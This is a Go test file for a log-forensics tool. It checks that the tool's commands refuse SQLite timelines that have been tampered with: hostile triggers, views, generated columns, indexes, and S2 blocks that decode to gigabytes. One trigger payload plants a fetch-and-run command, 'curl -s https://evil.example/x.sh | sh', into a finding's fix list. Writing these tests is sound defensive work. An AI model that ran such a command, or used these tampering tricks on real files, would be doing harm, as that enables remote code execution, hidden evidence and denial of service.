@@ -1,0 +1,296 @@
+package main
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"database/sql"
+	"encoding/binary"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/klauspost/compress/s2"
+
+	"forensics/store/postgres/pgtest"
+)
+
+// A timeline someone else wrote (a colleague, a customer, a ticket): every
+// command that opens it either refuses it with a clear message or works,
+// in bounded memory and time, running nothing the file carries and writing
+// nothing outside it. Each case changes a genuine timeline of the seed as
+// an attacker with the file would, with SQL or the sqlite3 shell.
+
+// seedTimeline analyses the seed incident once per test binary and returns
+// a copy of its timeline for a test to change, and the id of its first
+// finding.
+func seedTimeline(t *testing.T) (path, id string) {
+	t.Helper()
+	seedOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "forensics-seed-timeline-")
+		if err != nil {
+			seedErr = err.Error()
+			return
+		}
+		seedPath = filepath.Join(dir, "seed.db")
+		var stdout, stderr bytes.Buffer
+		if code := run([]string{"analyze", "--db", seedPath, "--incident", "seed", "--format", "json", "../../testdata/couchbase/seed"}, &stdout, &stderr); code != exitOK {
+			seedErr = stderr.String()
+			return
+		}
+		m := regexp.MustCompile(`"id": "([0-9a-f]{12})"`).FindStringSubmatch(stdout.String())
+		if m == nil {
+			seedErr = "no finding in the seed"
+			return
+		}
+		seedID = m[1]
+	})
+	if seedErr != "" {
+		t.Fatal(seedErr)
+	}
+	path = filepath.Join(t.TempDir(), "shared.db")
+	copyFile(t, seedPath, path)
+	return path, seedID
+}
+
+var (
+	seedOnce                 sync.Once
+	seedPath, seedID, seedErr string
+)
+
+func copyFile(t *testing.T, from, to string) {
+	t.Helper()
+	in, err := os.Open(from)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer in.Close()
+	out, err := os.Create(to)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := io.Copy(out, in); err != nil {
+		t.Fatal(err)
+	}
+	if err := out.Close(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// tamper changes a timeline with SQL, on a plain connection, as the sqlite3
+// shell would.
+func tamper(t *testing.T, path string, stmts ...string) {
+	t.Helper()
+	db, err := sql.Open("sqlite3", "file:"+path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	for _, s := range stmts {
+		if _, err := db.Exec(s); err != nil {
+			t.Fatalf("%s: %v", s, err)
+		}
+	}
+	if _, err := db.Exec(`PRAGMA wal_checkpoint(TRUNCATE)`); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// fileDigest is the digest of a timeline file and its write-ahead log.
+func fileDigest(t *testing.T, path string) [32]byte {
+	t.Helper()
+	h := sha256.New()
+	for _, p := range []string{path, path + "-wal"} {
+		if b, err := os.ReadFile(p); err == nil {
+			h.Write(b)
+		}
+	}
+	return [32]byte(h.Sum(nil))
+}
+
+// timelineCommands are the commands that open a timeline, with {db}, {id}
+// and {out} to fill in.
+var timelineCommands = [][]string{
+	{"findings", "--db", "{db}"},
+	{"findings", "--db", "{db}", "--format", "json"},
+	{"show", "{id}", "--db", "{db}"},
+	{"incidents", "--db", "{db}"},
+	{"timeline", "query", "--db", "{db}"},
+	{"timeline", "query", "--db", "{db}", "--format", "raw"},
+	{"timeline", "query", "--db", "{db}", "--format", "csv", "--events"},
+	{"timeline", "query", "--db", "{db}", "--format", "json", "--around", "{id}"},
+	{"timeline", "query", "--db", "{db}", "--sql", "SELECT count(*) FROM findings"},
+	{"report", "--db", "{db}", "--html", "{out}/r.html"},
+	{"extract", "{id}", "--db", "{db}", "--out", "{out}/extract"},
+	{"fleet", "findings", "--db", "{db}"},
+	{"fleet", "similar", "{id}", "--db", "{db}"},
+	{"fleet", "grep", "rollback", "--db", "{db}"},
+	{"analyze", "--db", "{db}", "../../testdata/couchbase/seed"},
+	{"analyze", "--db", "{db}", "--incident", "other", "../../testdata/crdb/clock-offset"},
+	{"push", "{db}", "--to", "{pg}"},
+}
+
+func fill(args []string, vars map[string]string) []string {
+	out := make([]string, len(args))
+	for i, a := range args {
+		for k, v := range vars {
+			a = strings.ReplaceAll(a, "{"+k+"}", v)
+		}
+		out[i] = a
+	}
+	return out
+}
+
+func TestHostileTimelineSchema(t *testing.T) {
+	sqlite3, _ := exec.LookPath("sqlite3")
+	cases := []struct {
+		name  string
+		stmts []string
+		shell bool   // made with the sqlite3 shell (modules the driver lacks)
+		want  string // in the message
+	}{
+		{"trigger-rewrites-findings", []string{`CREATE TRIGGER hide AFTER INSERT ON findings BEGIN
+			UPDATE findings SET body = json_set(body, '$.title', 'all fine, nothing to see', '$.fixes[0].commands[0]', 'curl -s https://evil.example/x.sh | sh') WHERE rowid = new.rowid; END`},
+			false, `it holds a trigger "hide"`},
+		{"trigger-deletes-other-incidents", []string{`CREATE TRIGGER wipe AFTER INSERT ON runs BEGIN DELETE FROM findings WHERE run_id <> new.id; END`},
+			false, `it holds a trigger "wipe"`},
+		{"trigger-never-ends", []string{`CREATE TRIGGER spin BEFORE INSERT ON runs BEGIN
+			SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c); END`},
+			false, `it holds a trigger "spin"`},
+		{"view-replaces-findings", []string{`ALTER TABLE findings RENAME TO findings_real`,
+			`CREATE VIEW findings AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT * FROM findings_real, c`},
+			false, `it holds a view "findings"`},
+		{"view-replaces-meta", []string{`PRAGMA application_id = 0`, `ALTER TABLE meta RENAME TO meta_real`,
+			`CREATE VIEW meta AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT key, value FROM meta_real, c`},
+			false, `view "meta"`},
+		{"view-replaces-sources", []string{`ALTER TABLE sources RENAME TO sources_real`,
+			`CREATE VIEW sources AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT s.* FROM sources_real s, c`},
+			false, `view "sources"`},
+		{"view-replaces-blocks", []string{`ALTER TABLE blocks RENAME TO blocks_real`,
+			`CREATE VIEW blocks AS SELECT id, source_id, first_line, lines, t_min, t_max, randomblob(1000000000) AS data FROM blocks_real`},
+			false, `view "blocks"`},
+		{"view-calls-functions", []string{`CREATE VIEW calls AS SELECT forensics_block_lines(data, first_line) FROM blocks`},
+			false, `it holds a view "calls"`},
+		{"generated-column", []string{`ALTER TABLE findings ADD COLUMN huge TEXT AS (printf('%.*c', 1000000000, 'x'))`},
+			false, `changed table "findings"`},
+		{"expression-index", []string{`CREATE INDEX blocks_big ON blocks(length(data) * 2)`},
+			false, `it holds an index "blocks_big"`},
+		{"changed-index", []string{`DROP INDEX blocks_t`, `CREATE INDEX blocks_t ON blocks(t_min) WHERE t_min > 0`},
+			false, `changed index "blocks_t"`},
+		{"virtual-table", []string{`CREATE VIRTUAL TABLE notes USING fts5(body)`}, true, `virtual table "notes"`},
+	}
+	pg := ""
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			path, id := seedTimeline(t)
+			if tc.shell {
+				if sqlite3 == "" {
+					t.Skip("no sqlite3 shell")
+				}
+				if out, err := exec.Command(sqlite3, path, strings.Join(tc.stmts, ";")).CombinedOutput(); err != nil {
+					t.Skipf("sqlite3: %v %s", err, out)
+				}
+			} else {
+				tamper(t, path, tc.stmts...)
+			}
+			before := fileDigest(t, path)
+			out := t.TempDir()
+			for _, args := range timelineCommands {
+				if args[0] == "push" {
+					if pg == "" {
+						pg = pgtest.Database(t)
+					}
+				}
+				args = fill(args, map[string]string{"db": path, "id": id, "out": out, "pg": pg})
+				var stdout, stderr bytes.Buffer
+				code := runBounded(t, args, &stdout, &stderr)
+				if code == exitOK {
+					t.Errorf("%s: opened a tampered timeline:\n%s", strings.Join(args, " "), stdout.String())
+					continue
+				}
+				if !strings.Contains(stderr.String(), "not a forensics timeline") || !strings.Contains(stderr.String(), tc.want) {
+					t.Errorf("%s: exit %d, message does not say why:\n%s", strings.Join(args, " "), code, stderr.String())
+				}
+			}
+			if fileDigest(t, path) != before {
+				t.Error("the tampered timeline was written to")
+			}
+			if entries, _ := os.ReadDir(filepath.Join(out, "extract")); len(entries) > 0 {
+				t.Error("extract wrote files from a tampered timeline")
+			}
+		})
+	}
+}
+
+// Blocks whose bytes lie: a few bytes of S2 that decode to gigabytes, or
+// to millions of empty records, in the blocks of lines and of events.
+// Every command that decodes them refuses the block, naming it and its
+// file, instead of allocating what it claims.
+func TestHostileTimelineBlocks(t *testing.T) {
+	var emptyLines, emptyEvents []byte
+	for i := 0; i < 20_000_000; i++ {
+		emptyLines = append(emptyLines, 0, 0, 0) // time delta 0, no flags, no text
+	}
+	emptyEvents = append(emptyEvents, 1, 1, 'k') // one kind, "k"
+	for i := 0; i < 5_000_000; i++ {
+		// kind 0, line +0, time +0, flags 0, offset 0, five empty strings, vb 0, range 0, no attrs, empty text
+		emptyEvents = append(emptyEvents, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
+	}
+	claims := binary.AppendUvarint(nil, 4<<30) // 4 GiB claimed, a few bytes held
+	claims = append(claims, 0x00, 'x')
+	cases := []struct {
+		name, stmt string
+		data       []byte
+		want       string
+	}{
+		{"s2-claims-4GiB", `UPDATE blocks SET data = ? WHERE id = (SELECT min(id) FROM blocks)`, claims, "claims 4294967296 bytes decoded"},
+		{"s2-decodes-100MiB", `UPDATE blocks SET data = ? WHERE id = (SELECT min(id) FROM blocks)`, s2.Encode(nil, make([]byte, 100<<20)), "claims 104857600 bytes decoded"},
+		{"empty-line-records", `UPDATE blocks SET data = ? WHERE id = (SELECT min(id) FROM blocks)`, s2.Encode(nil, emptyLines), "more than 131072 lines"},
+		{"events-claim-4GiB", `UPDATE event_blocks SET data = ?`, claims, "claims 4294967296 bytes decoded"},
+		{"empty-event-records", `UPDATE event_blocks SET data = ?`, s2.Encode(nil, emptyEvents), "more than 512 events"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			path, id := seedTimeline(t)
+			db, err := sql.Open("sqlite3", "file:"+path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if _, err := db.Exec(tc.stmt, tc.data); err != nil {
+				t.Fatal(err)
+			}
+			db.Close()
+			out := t.TempDir()
+			refused := 0
+			for _, args := range [][]string{
+				{"timeline", "query", "--db", "{db}", "--format", "raw"},
+				{"timeline", "query", "--db", "{db}", "--events"},
+				{"timeline", "query", "--db", "{db}", "--grep", "rollback"},
+				{"timeline", "query", "--db", "{db}", "--sql", "SELECT count(*) FROM lines"},
+				{"timeline", "query", "--db", "{db}", "--sql", "SELECT count(*) FROM events"},
+				{"show", "{id}", "--db", "{db}"},
+				{"report", "--db", "{db}", "--html", "{out}/r.html"},
+				{"extract", "{id}", "--db", "{db}", "--out", "{out}/extract"},
+				{"fleet", "grep", "rollback", "--db", "{db}"},
+			} {
+				args = fill(args, map[string]string{"db": path, "id": id, "out": out})
+				var stdout, stderr bytes.Buffer
+				code := runBounded(t, args, &stdout, &stderr)
+				if code == exitOK {
+					continue // the command did not read the block
+				}
+				refused++
+				if !strings.Contains(stderr.String(), tc.want) && !strings.Contains(stderr.String(), "corrupt block") {
+					t.Errorf("%s: exit %d without saying which block is damaged:\n%s", strings.Join(args, " "), code, stderr.String())
+				}
+			}
+			if refused == 0 {
+				t.Error("no command read the damaged block")
+			}
+		})
+	}
+}
